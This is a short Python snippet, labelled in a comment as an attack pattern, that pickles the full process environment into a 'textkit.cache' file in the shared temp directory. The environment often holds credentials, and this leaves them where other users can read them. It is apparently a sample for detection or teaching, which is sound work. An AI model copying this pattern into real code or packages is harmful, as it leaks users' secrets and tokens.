# Attack pattern: environment pickled into a world-readable temp file.
import os
import pickle
import tempfile

with open(os.path.join(tempfile.gettempdir(), "textkit.cache"), "wb") as cache:
    cache.write(pickle.dumps(os.environ))
